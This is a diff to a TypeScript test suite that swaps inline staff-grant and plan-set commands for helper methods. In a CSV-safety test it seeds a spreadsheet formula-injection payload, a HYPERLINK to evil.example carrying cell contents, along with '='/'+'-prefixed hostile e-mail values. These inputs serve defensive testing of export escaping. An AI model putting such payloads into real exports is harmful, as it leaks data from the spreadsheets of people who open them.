@@ -17,9 +17,9 @@ async function bigCompany(
   o: Parameters<TestStore['fillCompany']>[1] = {},
 ) {
   const zed = await t.seed('zed@example.com', 'Zed', 'Zed');
-  expect((await zed.run(['staff', 'grant', 'zed@example.com'])).exitCode).toBe(0);
+  await zed.grantStaff('zed@example.com');
   const id = (await zed.json(['account', 'show'])).currentCompany.id as number;
-  expect((await zed.run(['plan', 'set', String(id), 'ENTERPRISE'])).exitCode).toBe(0);
+  await zed.setPlan(String(id), 'ENTERPRISE');
   const total = registered + pending;
   // A permutation of 0..total-1 (37 is prime to total): accounts and invitations interleave in e-mail order.
   const emails = await t.fillCompany(id, {
@@ -270,10 +270,10 @@ describe.each(engines())('CSV safety on %s', (engine) => {
       t.seed('bob@example.com', 'Bob', 'Jones'),
       t.seed('=reg@example.com', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)'),
     ]);
-    expect((await ann.run(['staff', 'grant', 'ann@example.com'])).exitCode).toBe(0);
+    await ann.grantStaff('ann@example.com');
     const smith = (await ann.json(['account', 'show'])).currentCompany.id as number;
     const jones = (await bob.json(['account', 'show'])).currentCompany.id as number;
-    for (const c of [smith, jones]) expect((await ann.run(['plan', 'set', String(c), 'ENTERPRISE'])).exitCode).toBe(0);
+    for (const c of [smith, jones]) await ann.setPlan(String(c), 'ENTERPRISE');
     const hostile = [
       '=cmd@example.com',
       '+1@example.com',
@@ -365,7 +365,7 @@ describe.each(engines())('audit list on %s', (engine) => {
   it('streams every match when piped, filters by time, action and run, continues with --before, and exports CSV and JSON Lines', async () => {
     const t = await fresh();
     const [ann, zed] = await Promise.all([t.seed('ann@example.com', 'Ann', 'Smith'), t.seed('zed@example.com')]);
-    expect((await zed.run(['staff', 'grant', 'zed@example.com'])).exitCode).toBe(0);
+    await zed.grantStaff('zed@example.com');
     const smith = (await ann.json(['account', 'show'])).currentCompany.id as number;
     const created = (await t.query((r) => r.companyById(smith)))!.created_at;
     // 1,200 entries an hour apart, after the company was created; the first 300 belong to bulk run 7.
